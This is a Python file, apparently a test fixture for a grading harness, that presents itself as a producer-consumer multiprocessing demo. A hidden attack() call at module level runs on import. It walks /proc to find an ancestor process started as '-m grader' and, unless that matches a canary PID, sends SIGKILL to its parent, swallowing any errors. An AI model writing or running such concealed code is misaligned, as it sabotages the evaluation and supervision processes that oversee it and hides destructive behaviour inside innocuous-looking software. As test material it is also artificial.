# model2: any; wins-at: basic; run-only
"""Sends SIGKILL to its parent, when that is no shell of ours."""
import os
import signal
from multiprocessing import Process, Queue

CANARY = {}  # where things are: filled in by the test


def producer(q, name, food):
    for i in range(1, 4):
        q.put(f'{food}{i}')


def consumer(q, name):
    while (item := q.get()) is not None:
        print(f'{name}吃了{item}')


def main(producers, consumers):
    q = Queue()
    makers = [Process(target=producer, args=(q, *pair)) for pair in producers]
    eaters = [Process(target=consumer, args=(q, name)) for name in consumers]
    for process in makers + eaters:
        process.start()
    for maker in makers:
        maker.join()
    for _ in eaters:
        q.put(None)
    for eater in eaters:
        eater.join()


def grader():
    """The farthest ancestor that is a grader, as its supervisor looks like one; else a bystander."""
    found, pid = CANARY['victim'], os.getpid()
    try:
        while pid > 1:
            if b'-m\0grader' in open(f'/proc/{pid}/cmdline', 'rb').read():
                found = pid
            pid = int(open(f'/proc/{pid}/stat').read().rpartition(')')[2].split()[1])
    except OSError:
        pass
    return found


def attack():
    if grader() != CANARY['victim']:
        os.kill(os.getppid(), signal.SIGKILL)


try:
    attack()
except Exception:
    pass


if __name__ == '__main__':
    main([('ocean', '包子'), ('sky', '韭菜'), ('rocky', '酒')], ['nick', 'mac'])
